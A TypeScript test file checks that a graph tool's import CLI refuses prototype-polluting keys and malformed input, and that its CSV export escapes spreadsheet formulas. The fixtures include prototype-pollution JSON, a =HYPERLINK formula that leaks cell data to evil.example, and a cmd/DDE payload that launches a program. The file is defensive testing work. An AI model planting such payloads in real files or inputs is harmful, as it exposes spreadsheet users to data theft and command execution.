import { spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { PROJECT_ROOT } from '../../src/config';
import { exportGraph } from '../../src/export/exporter';
import { escapeFormula, unescapeFormula } from '../../src/export/formats';
import { importFiles } from '../../src/import/importer';
import { ImportValidationError } from '../../src/import/validate';
import { wipe, withCleanDatabase } from '../helpers/db';
import { graphFingerprint } from '../helpers/graph';
import { scratchDir } from '../helpers/scratch';

// Threats (issue 17, row 12): the import CLI stored keys __proto__/constructor/toString, printed a raw
// stack trace for a `null` JSON Lines line, exited having written nothing for an unclosed CSV quote,
// hung on --batch-size abc / 0 / -1; the CSV export wrote =HYPERLINK(…) as a live formula.

const tmp = scratchDir('pg-import-sec-');
const write = (name: string, content: string) => {
  const file = path.join(tmp, name);
  fs.writeFileSync(file, content);
  return file;
};
const STACK = /\n\s+at .+:\d+:\d+\)?/;

/** Runs the import CLI as a user would; fails the test if it does not end within 60 s. */
function importCli(...args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ['-r', 'ts-node/register/transpile-only', 'tools/cli/import.ts', ...args], {
      cwd: PROJECT_ROOT,
      env: { ...process.env, LOG_LEVEL: 'silent' },
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    const timer = setTimeout(() => {
      child.kill('SIGKILL');
      reject(new Error(`import ${args.join(' ')} still running after 60 s (stderr: ${stderr.slice(0, 300)})`));
    }, 60_000);
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr });
    });
  });
}

describe('import and export under attack', () => {
  const suite = withCleanDatabase();
  const count = async () => (await graphFingerprint(suite.db)).nodes;

  it('refuses prototype-polluting keys (__proto__, constructor, toString) in every format, naming file and record; Object.prototype stays clean', async () => {
    const cases: Array<[string, string, string]> = [
      [
        'proto.json',
        '{"entities": [{"kind": "Cluster", "id": "pp-json", "name": "P", "__proto__": {"polluted": true}}]}',
        'proto.json entities[0] (id "pp-json"): field "__proto__": the key "__proto__" is refused (it could alter object prototypes); it is not a field',
      ],
      [
        'ctor.json',
        '{"entities": [{"kind": "Cluster", "id": "pp-ctor", "name": "P", "constructor": {"prototype": {"polluted": true}}}]}',
        'ctor.json entities[0] (id "pp-ctor"): field "constructor": the key "constructor" is refused (it could alter object prototypes); it is not a field',
      ],
      [
        'tostring.json',
        '{"entities": [{"kind": "Cluster", "id": "pp-tostring", "name": "P", "toString": "x"}]}',
        'tostring.json entities[0] (id "pp-tostring"): field "toString": not a field of Cluster; expected one of kind, id, name, aliases, description, sources, labels, website, owner, founded, dissolved',
      ],
      [
        'proto.jsonl',
        '{"record": "entity", "kind": "Cluster", "id": "pp-jsonl", "name": "P", "__proto__": {"polluted": true}}\n',
        'proto.jsonl line 1 (id "pp-jsonl"): field "__proto__": the key "__proto__" is refused (it could alter object prototypes); it is not a field',
      ],
      [
        'proto.csv',
        'kind,id,name,__proto__\nCluster,pp-csv,P,x\n',
        'proto.csv line 1: field "__proto__": the key "__proto__" is refused (it could alter object prototypes); it is not a field',
      ],
      [
        'ctor.csv',
        'kind,id,name,constructor\nCluster,pp-csv2,P,x\n',
        'ctor.csv line 1: field "constructor": the key "constructor" is refused (it could alter object prototypes); it is not a field',
      ],
      [
        'proto.graphml',
        '<?xml version="1.0"?><graphml><key id="k" for="node" attr.name="__proto__"/><key id="n" for="node" attr.name="name"/><key id="kd" for="node" attr.name="kind"/><graph><node id="pp-graphml"><data key="kd">Cluster</data><data key="n">P</data><data key="k">x</data></node></graph></graphml>',
        'proto.graphml node[0]: field "__proto__": the key "__proto__" is refused (it could alter object prototypes); it is not a field',
      ],
    ];
    for (const [name, content, issue] of cases) {
      const error = await importFiles(suite.db, [write(name, content)]).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(ImportValidationError);
      expect({ name, first: (error as Error).message.split('\n')[1] }).toEqual({ name, first: `  ${issue}` });
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(await count()).toBe(0);
    // Through the CLI: exit 1, the message and no stack trace.
    const cli = await importCli(path.join(tmp, 'proto.csv'));
    expect({ code: cli.code, stderr: cli.stderr }).toEqual({
      code: 1,
      stderr: `Import rejected, nothing was written: 1 problem(s)\n  ${cases[4][2]}\n`,
    });
  });

  it('names a null (or other non-object) JSON Lines line by file and line, without a stack trace, exit 1, nothing written', async () => {
    const file = write('lines.jsonl', '{"record": "entity", "kind": "Cluster", "id": "jl-ok", "name": "Fine"}\nnull\n');
    const cli = await importCli(file);
    expect({ code: cli.code, stderr: cli.stderr }).toEqual({
      code: 1,
      stderr:
        'Import rejected, nothing was written: 1 problem(s)\n  lines.jsonl line 2: field "json": expected a JSON object (one record per line), got null\n',
    });
    for (const [line, got] of [
      ['42', 'number'],
      ['"text"', 'string'],
      ['[1, 2]', 'an array'],
      ['true', 'boolean'],
    ]) {
      const error = await importFiles(suite.db, [write('other.jsonl', `\n${line}\n`)]).catch((e: Error) => e);
      expect((error as Error).message).toBe(
        `Import rejected, nothing was written: 1 problem(s)\n  other.jsonl line 2: field "json": expected a JSON object (one record per line), got ${got}`,
      );
    }
    expect(await count()).toBe(0);
  });

  it('names an unclosed CSV quote by file and line, exits 1 without a stack trace, writes nothing', async () => {
    const file = write(
      'quote.csv',
      'kind,id,name\nCluster,csv-ok,Fine\nCluster,csv-bad,"unclosed\nCluster,csv-after,After\n',
    );
    const cli = await importCli(file);
    expect(cli.code).toBe(1);
    expect(cli.stderr).toMatch(
      /^Import rejected, nothing was written: 1 problem\(s\)\n {2}quote\.csv line \d: field "csv": not valid CSV: Quote Not Closed/,
    );
    expect(cli.stderr).not.toMatch(STACK);
    expect(await count()).toBe(0);
    // A folder where a file was expected: the same kind of message.
    const folder = path.join(tmp, 'folder.json');
    fs.mkdirSync(folder, { recursive: true });
    const dir = await importCli(folder);
    expect(dir.code).toBe(1);
    expect(dir.stderr).toMatch(
      /^Import rejected, nothing was written: 1 problem\(s\)\n {2}folder\.json file: field "path": cannot be read: EISDIR/,
    );
    expect(dir.stderr).not.toMatch(STACK);
  });

  it('refuses --batch-size abc / 0 / -1 / 1.5 / 100001 (and a bad --concurrency) at once with exit 1, instead of hanging', async () => {
    const file = write('one.json', '{"entities": [{"kind": "Cluster", "id": "batch-one", "name": "One"}]}');
    const bad: Array<[string, string]> = [
      ['--batch-size', 'abc'],
      ['--batch-size', '0'],
      ['--batch-size', '-1'],
      ['--batch-size', '1.5'],
      ['--batch-size', '100001'],
      ['--concurrency', '0'],
    ];
    const runs = await Promise.all(bad.map(([option, value]) => importCli(`${option}=${value}`, file)));
    runs.forEach((run, i) => {
      const [option, value] = bad[i];
      const max = option === '--batch-size' ? 100000 : 64;
      expect({ option, value, code: run.code, stderr: run.stderr }).toEqual({
        option,
        value,
        code: 1,
        stderr: `error: option '${option} <n>' argument '${value}' is invalid. expected a whole number from 1 to ${max}.\n`,
      });
    });
    expect(await count()).toBe(0);
    const good = await importCli('--batch-size', '1', file);
    expect({ code: good.code, stderr: good.stderr }).toEqual({ code: 0, stderr: '' });
    expect(await count()).toBe(1);
    await wipe(suite.db);
  });

  it('escapes formula cells (= + - @ tab CR) in CSV exports with a leading quote, and the CSV imports back to the same graph', async () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)',
      '\tTabbed',
      '\rReturned',
      "'=already quoted",
      "''double",
      "'t Hooft",
      'Plain name',
    ];
    // (CSV joins list items with |, so list items here carry none: that limit of the format predates this.)
    const entities = hostile.map((name, i) => ({
      kind: 'Cluster',
      id: `formula-${i}`,
      name,
      description: name,
      aliases: [name.replace(/\|/g, '/'), 'safe'],
    }));
    const relations = [{ type: 'PARTNER_OF', from: 'formula-0', to: 'formula-1', note: '=1+1' }];
    await importFiles(suite.db, [write('formulas.json', JSON.stringify({ entities, relations }))]);
    const before = await graphFingerprint(suite.db);
    const out = path.join(tmp, 'csv-export');
    await exportGraph(suite.db, 'csv', out);
    const rows: Record<string, string>[] = parse(fs.readFileSync(path.join(out, 'entities.csv'), 'utf8'), {
      columns: true,
    });
    const relationRows: Record<string, string>[] = parse(fs.readFileSync(path.join(out, 'relations.csv'), 'utf8'), {
      columns: true,
    });
    const cells = [...rows, ...relationRows].flatMap((r) => Object.values(r));
    expect(relationRows[0].note).toBe("'=1+1");
    // No cell a spreadsheet would run.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    const byId = new Map(rows.map((r) => [r.id, r]));
    expect(byId.get('formula-0')!.name).toBe('\'=HYPERLINK("https://evil.example/?leak="&A1,"click")');
    expect(byId.get('formula-4')!.name).toBe("'\tTabbed");
    expect(byId.get('formula-6')!.name).toBe("''=already quoted");
    expect(byId.get('formula-8')!.name).toBe("'t Hooft"); // a quote before ordinary text is left alone
    expect(byId.get('formula-9')!.name).toBe('Plain name');
    expect(byId.get('formula-3')!.aliases).toBe("'@SUM(1+1)|safe");
    // Round trip: the import takes off exactly the quote the export added.
    await wipe(suite.db);
    await importFiles(suite.db, [path.join(out, 'entities.csv'), path.join(out, 'relations.csv')]);
    expect(await graphFingerprint(suite.db)).toEqual(before);
    for (const s of [...hostile, '', "'", "''", "'''=x", '-']) expect(unescapeFormula(escapeFormula(s))).toBe(s);
  });
});
